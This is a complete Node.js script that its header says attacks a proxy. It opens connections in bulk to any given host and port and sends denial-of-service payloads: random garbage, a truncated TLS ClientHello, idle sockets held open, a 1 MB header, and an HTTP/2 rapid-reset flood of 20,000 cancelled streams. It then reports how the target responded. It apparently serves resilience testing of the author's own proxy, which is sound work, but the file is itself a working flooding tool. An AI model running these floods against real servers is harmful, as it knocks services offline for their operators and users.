// Attacks a proxy and prints what came of it as JSON: attack.mjs KIND HOST PORT COUNT HOLD_MS
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';

const [kind, host, portText, countText, holdText] = process.argv.slice(2);
const port = Number(portText);
const count = Number(countText);
const hold = Number(holdText);

/** The beginning of a TLS record that promises a ClientHello of 512 bytes. */
const HALF_HELLO = Buffer.concat([Buffer.from('16030102000100', 'hex'), randomBytes(40)]);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = Buffer.from('000000040000000000', 'hex');

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Requests that are taken back at once: GET / with END_STREAM, then RST_STREAM with CANCEL. */
function rapidResets(requests) {
  const headers = Buffer.from([0x82, 0x86, 0x84, 0x41, 3, ...Buffer.from('web')]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const frames = [];
  for (let n = 0; n < requests; n++)
    frames.push(frame(1, 5, 2 * n + 1, headers), frame(3, 0, 2 * n + 1, cancel));
  return Buffer.concat([PREFACE, SETTINGS, ...frames]);
}

/** What each kind sends on every connection. */
const SENDS = {
  garbage: () => randomBytes(65_536),
  'half-hello': () => HALF_HELLO,
  silent: () => undefined,
  idle: () => undefined,
  'big-header': () => Buffer.from(`GET / HTTP/1.1\r\nhost: web\r\nx-big: ${'x'.repeat(1 << 20)}\r\n\r\n`),
  'rapid-reset': () => rapidResets(20_000),
};

const tally = { connected: 0, refused: 0, closedByProxy: 0, statuses: {} };
const sockets = [];

function open() {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    sockets.push(socket);
    socket.on('connect', () => {
      tally.connected += 1;
      const bytes = SENDS[kind]();
      if (bytes) socket.write(bytes);
      resolve();
    });
    socket.on('data', (part) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(part.toString('latin1'))?.[1];
      if (status) tally.statuses[status] = (tally.statuses[status] ?? 0) + 1;
    });
    socket.on('error', () => {
      if (socket.connecting) tally.refused += 1;
      resolve();
    });
    socket.on('close', () => {
      tally.closedByProxy += 1;
    });
  });
}

/** No more than this many connections are being opened at a time. */
const AT_ONCE = 200;
for (let opened = 0; opened < count; opened += AT_ONCE) {
  await Promise.all(Array.from({ length: Math.min(AT_ONCE, count - opened) }, open));
}
await new Promise((resolve) => setTimeout(resolve, hold));
console.log(JSON.stringify(tally));
process.exit(0);
